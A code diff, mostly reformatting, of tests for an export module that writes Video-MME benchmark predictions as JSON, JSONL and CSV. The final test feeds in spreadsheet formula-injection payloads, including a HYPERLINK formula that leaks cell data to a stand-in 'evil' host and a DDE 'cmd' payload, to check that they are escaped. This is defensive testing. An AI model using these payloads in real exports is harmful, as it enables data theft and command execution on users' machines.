@@ -23,31 +23,58 @@ const decodeOfficial = Schema.decodeUnknownSync(OfficialLayout, { onExcessProper
 
 const rows = [
   prediction({ questionId: "001-1", videoId: "fFjv93ACGo8", duration: "short", domain: "Knowledge", prediction: "B" }),
-  prediction({ questionId: "002-1", videoId: "other", duration: "long", prediction: null, correct: false, stopReason: "parse_error" }),
-  prediction({ questionId: "001-2", videoId: "fFjv93ACGo8", duration: "short", domain: "Knowledge", question: `Says "hi, there"?` })
+  prediction({
+    questionId: "002-1",
+    videoId: "other",
+    duration: "long",
+    prediction: null,
+    correct: false,
+    stopReason: "parse_error"
+  }),
+  prediction({
+    questionId: "001-2",
+    videoId: "fFjv93ACGo8",
+    duration: "short",
+    domain: "Knowledge",
+    question: `Says "hi, there"?`
+  })
 ]
 
 describe("export", () => {
   it("videomme: one entry per video in the official layout, questions grouped, unanswered as an empty response", () => {
     const videos = decodeOfficial(JSON.parse(renderExport("videomme", rows)))
-    assert.deepStrictEqual(videos.map((v) => [v.video_id, v.duration, v.domain, v.questions.map((q) => q.question_id)]), [
-      ["fFjv93ACGo8", "short", "Knowledge", ["001-1", "001-2"]],
-      ["other", "long", null, ["002-1"]]
-    ])
+    assert.deepStrictEqual(
+      videos.map((v) => [v.video_id, v.duration, v.domain, v.questions.map((q) => q.question_id)]),
+      [
+        ["fFjv93ACGo8", "short", "Knowledge", ["001-1", "001-2"]],
+        ["other", "long", null, ["002-1"]]
+      ]
+    )
     assert.deepStrictEqual(videos[1]!.questions[0]!.response, "")
     assert.deepStrictEqual(toVideoMme([])[0], undefined)
   })
 
   it("jsonl: one prediction per line with outcome, usage, cost and stop reason", () => {
-    const lines = renderExport("jsonl", rows, (id) => id === "001-1" ? 0.5 : null).trimEnd().split("\n").map((l) => JSON.parse(l))
+    const lines = renderExport("jsonl", rows, (id) => id === "001-1" ? 0.5 : null).trimEnd().split("\n").map((l) =>
+      JSON.parse(l)
+    )
     assert.strictEqual(lines.length, 3)
-    assert.deepInclude(lines[1], { question_id: "002-1", outcome: "unanswered", stop_reason: "parse_error", prompt_tokens: 100, cost_usd: null })
+    assert.deepInclude(lines[1], {
+      question_id: "002-1",
+      outcome: "unanswered",
+      stop_reason: "parse_error",
+      prompt_tokens: 100,
+      cost_usd: null
+    })
     assert.deepInclude(lines[0], { outcome: "correct", cost_usd: 0.5, time_ms: 1_000 })
   })
 
   it("csv: a header, one row per prediction, quotes and commas escaped", () => {
     const csv = renderExport("csv", rows).split("\r\n")
-    assert.strictEqual(csv[0], "question_id,video_id,task_type,duration,domain,question,options,answer,prediction,outcome,stop_reason,steps,prompt_tokens,completion_tokens,cost_usd,time_ms,error")
+    assert.strictEqual(
+      csv[0],
+      "question_id,video_id,task_type,duration,domain,question,options,answer,prediction,outcome,stop_reason,steps,prompt_tokens,completion_tokens,cost_usd,time_ms,error"
+    )
     assert.include(csv[3], `"Says ""hi, there""?"`)
     assert.strictEqual(csv.length, 5)
     assert.strictEqual(renderExport("csv", []).split("\r\n")[0], csv[0])
@@ -55,7 +82,12 @@ describe("export", () => {
 
   it("csv: a question, task type or domain that starts a formula is written with a leading ' (#21 point 7)", () => {
     const hostile = [
-      prediction({ questionId: "h-1", question: `=HYPERLINK("http://evil/?"&A1,"x")`, taskType: "+cmd|' /C calc'!A0", domain: "@SUM(1+1)" }),
+      prediction({
+        questionId: "h-1",
+        question: `=HYPERLINK("http://evil/?"&A1,"x")`,
+        taskType: "+cmd|' /C calc'!A0",
+        domain: "@SUM(1+1)"
+      }),
       prediction({ questionId: "h-2", question: "-2+3", taskType: "\tTab", domain: "\rCR" }),
       prediction({ questionId: "-7", question: "-1.5", taskType: "plain" })
     ]
